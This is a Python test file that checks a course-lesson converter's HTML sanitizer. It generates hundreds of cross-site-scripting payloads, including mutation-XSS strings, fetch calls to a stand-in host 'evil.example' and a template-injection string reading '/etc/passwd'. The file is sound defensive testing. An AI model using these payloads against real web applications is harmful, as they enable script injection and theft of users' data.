"""Hostile lessons: every payload in every text and attribute gives only HTML of the allow-list."""

import itertools
import re
from collections.abc import Iterator
from typing import Any
from uuid import uuid4

import pytest
from lxml import html as lxml_html

from training.courses.documents import doc
from trilha.training.courses.lessons.process import convert, convert_markdown
from trilha.training.courses.lessons.rendering import TooComplex
from trilha.training.courses.lessons.rules import InvalidDocument

FILE = str(uuid4())
ELEMENTS = {
    *(
        "p",
        "h2",
        "h3",
        "h4",
        "ul",
        "ol",
        "li",
        "blockquote",
        "pre",
        "code",
        "hr",
        "img",
        "br",
        "strong",
        "em",
    ),
    *("s", "a", "table", "thead", "tbody", "tr", "th", "td", "div", "details", "summary", "figure", "video"),
    *("track", "figcaption", "fieldset", "legend", "label", "input", "span"),
}
ATTRIBUTES = {
    *(
        "href",
        "target",
        "rel",
        "src",
        "alt",
        "loading",
        "class",
        "start",
        "tabindex",
        "scope",
        "role",
        "type",
    ),
    *("name", "controls", "playsinline", "preload", "aria-label", "kind", "srclang", "label", "default"),
    *("data-provider", "data-video", "data-title"),
}
_RUN = ("alert(1)", "window.hacked=1", "fetch('//evil.example')")
_TAGS = (
    "script",
    "img",
    "svg",
    "iframe",
    "object",
    "embed",
    "math",
    "style",
    "base",
    "form",
    "input",
    "body",
)
_EVENTS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onanimationstart", "onpointerover")
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:"),
    *(
        "vbscript:",
        "data:text/html,",
        "data:image/svg+xml,",
        "blob:",
        "file:///",
        "//evil.example/",
        "ftp://",
    ),
    *("javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "javascript%3A", "view-source:", "feed:"),
)
_CLOSINGS = ("</p>", "</code></pre>", "</title>", "-->", "]]>", "</textarea>", "</template>", '">', "'>")


def list_payloads() -> list[str]:
    """Families of attacks that sanitizers are tested with: tags, handlers, schemes, and broken contexts."""
    families: list[Iterator[str]] = [
        (f"<{tag} {event}={run}>" for tag, event, run in itertools.product(_TAGS, _EVENTS, _RUN[:1])),
        (
            f"<{tag} src=x {event}='{run}'/>"
            for tag, event, run in itertools.product(_TAGS[:4], _EVENTS, _RUN)
        ),
        (f'<a href="{scheme}{run}">x</a>' for scheme, run in itertools.product(_SCHEMES, _RUN)),
        (f"{closing}<script>{run}</script>" for closing, run in itertools.product(_CLOSINGS, _RUN)),
        (f'{closing} onmouseover="{run}" x="' for closing, run in itertools.product(_CLOSINGS, _RUN)),
        (f"[x]({scheme}{run})" for scheme, run in itertools.product(_SCHEMES, _RUN)),
        (f"![x]({scheme}{run})" for scheme, run in itertools.product(_SCHEMES, _RUN[:1])),
        (f"<{scheme}{run}>" for scheme, run in itertools.product(_SCHEMES, _RUN[:1])),
        (f"[x]: {scheme}{run}\n\n[x]" for scheme, run in itertools.product(_SCHEMES, _RUN[:1])),
        iter(
            (
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mi><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<x\x00script>alert(1)</x\x00script>",
                "\ue000check\ue001<b>",
                "\ue000__class__\ue001",
                "{{ 7 * 7 }}{% include '/etc/passwd' %}",
                "::: info\n<script>alert(1)</script>\n:::",
                "::: details <img src=x onerror=alert(1)>\nx\n:::",
                '::: embed youtube:dQw4w9WgXcQ" onload="alert(1)\n:::',
                f'::: file media/{FILE} "><script>alert(1)</script>\n:::',
            )
        ),
    ]
    return list(dict.fromkeys(itertools.chain(*families)))


PAYLOADS = list_payloads()


def check_html(html: str) -> None:
    root = lxml_html.fragment_fromstring(html, create_parent="section")
    for element in root.iterdescendants():
        assert element.tag in ELEMENTS, element.tag
        for name, value in element.attrib.items():
            assert name in ATTRIBUTES, name
            if name == "href" and element.tag == "a":
                assert re.match(r"(https?://|mailto:|tel:)[^\s]+$|media/[0-9a-f-]{36}$", value, re.IGNORECASE)
            if name == "src":
                assert re.fullmatch(r"media/[0-9a-f-]{36}", value), value
    assert "<script" not in html.lower()


def text(words: str, *marks: dict[str, Any]) -> dict[str, Any]:
    return {"type": "text", "text": words, "marks": list(marks)}


def list_documents(payload: str) -> Iterator[dict[str, Any]]:
    """Yields a document for each place where a payload can stand."""
    inline = [text(payload)]
    paragraph = {"type": "paragraph", "content": inline}
    cell = {"type": "tableCell", "content": [paragraph]}
    option = {"type": "questionOption", "attrs": {"right": True}, "content": inline}
    other = {"type": "questionOption", "attrs": {"right": False}, "content": inline}
    prompt = {"type": "questionPrompt", "content": inline}
    captions = {"file": FILE, "language": payload}
    yield doc(paragraph)
    for mark in ("bold", "italic", "strike", "code"):
        yield doc({"type": "paragraph", "content": [text(payload, {"type": mark})]})
    for node in (
        {"type": "heading", "attrs": {"level": 2}, "content": inline},
        {"type": "bulletList", "content": [{"type": "listItem", "content": [paragraph]}]},
        {"type": "blockquote", "content": [paragraph]},
        {"type": "codeBlock", "attrs": {"language": ""}, "content": inline},
        {"type": "codeBlock", "attrs": {"language": payload}, "content": inline},
        {"type": "callout", "attrs": {"kind": "info"}, "content": [paragraph]},
        {"type": "callout", "attrs": {"kind": payload}, "content": [paragraph]},
        {"type": "table", "content": [{"type": "tableRow", "content": [cell]}]},
        {"type": "accordion", "content": [{"type": "accordionTitle", "content": inline}, paragraph]},
        {"type": "question", "attrs": {"kind": "single"}, "content": [prompt, option, other]},
        {"type": "image", "attrs": {"file": FILE, "alt": payload}},
        {"type": "image", "attrs": {"file": payload, "alt": "x"}},
        {"type": "video", "attrs": {"file": FILE, "title": payload}},
        {"type": "video", "attrs": {"file": FILE, "title": "x", "captions": [captions]}},
        {"type": "embed", "attrs": {"provider": "youtube", "video": payload, "title": "x"}},
        {"type": "embed", "attrs": {"provider": payload, "video": "dQw4w9WgXcQ", "title": "x"}},
        {"type": "embed", "attrs": {"provider": "youtube", "video": "dQw4w9WgXcQ", "title": payload}},
        {"type": "attachment", "attrs": {"file": FILE, "name": payload}},
        {"type": payload, "content": [paragraph]},
        {"type": "paragraph", "attrs": {payload: payload}},
        {"type": "heading", "attrs": {"level": 2, "onclick": payload}},
        {"type": "orderedList", "attrs": {"start": payload}, "content": []},
        {"type": "paragraph", "content": [text("x", {"type": "link", "attrs": {"href": payload}})]},
        {"type": "paragraph", "content": [text("x", {"type": payload})]},
    ):  # fmt: skip
        yield doc(node)


def test_there_are_hundreds_of_payloads() -> None:
    assert len(PAYLOADS) >= 300


@pytest.mark.parametrize("part", range(8))
def test_a_hostile_document_is_refused_or_harmless(part: int) -> None:
    for payload in PAYLOADS[part::8]:
        for document in list_documents(payload):
            try:
                lesson = convert(document)
            except InvalidDocument:
                continue
            check_html(lesson.html)
            check_html(convert_markdown(lesson.body).html)


@pytest.mark.parametrize("part", range(2))
def test_hostile_markdown_is_harmless(part: int) -> None:
    for payload in PAYLOADS[part::2]:
        for body in (payload, f"# {payload}", f"- {payload}", f"| a |\n| - |\n| {payload} |", f"> {payload}"):
            check_html(convert_markdown(body).html)


@pytest.mark.parametrize("scheme", _SCHEMES)
def test_a_link_leads_to_the_web_only(scheme: str) -> None:
    link = text("x", {"type": "link", "attrs": {"href": f"{scheme}alert(1)"}})
    with pytest.raises(InvalidDocument):
        convert(doc({"type": "paragraph", "content": [link]}))


def nest(depth: int) -> dict[str, Any]:
    node: dict[str, Any] = {"type": "paragraph"}
    for _ in range(depth):
        node = {"type": "blockquote", "content": [node]}
    return doc(node)


@pytest.mark.parametrize(
    "document",
    [
        nest(100),
        doc(*[{"type": "paragraph"}] * 70_000),
        doc({"type": "paragraph", "content": [text("a" * 500_000)]}),
        doc({"type": "table", "content": [{"type": "tableRow", "content": [{"type": "tableCell"}] * 60}]}),
        doc(
            {
                "type": "table",
                "content": [{"type": "tableRow", "content": [{"type": "tableCell"}] * 50}] * 300,
            }
        ),
        doc({"type": "paragraph", "content": [text("x", *[{"type": "bold"}] * 50)]}),
        [],
        {"type": "doc", "content": "x"},
        {"type": "doc", "content": [None]},
    ],
)
def test_nested_and_huge_documents_are_refused(document: Any) -> None:
    with pytest.raises((InvalidDocument, TooComplex)):
        convert(document)
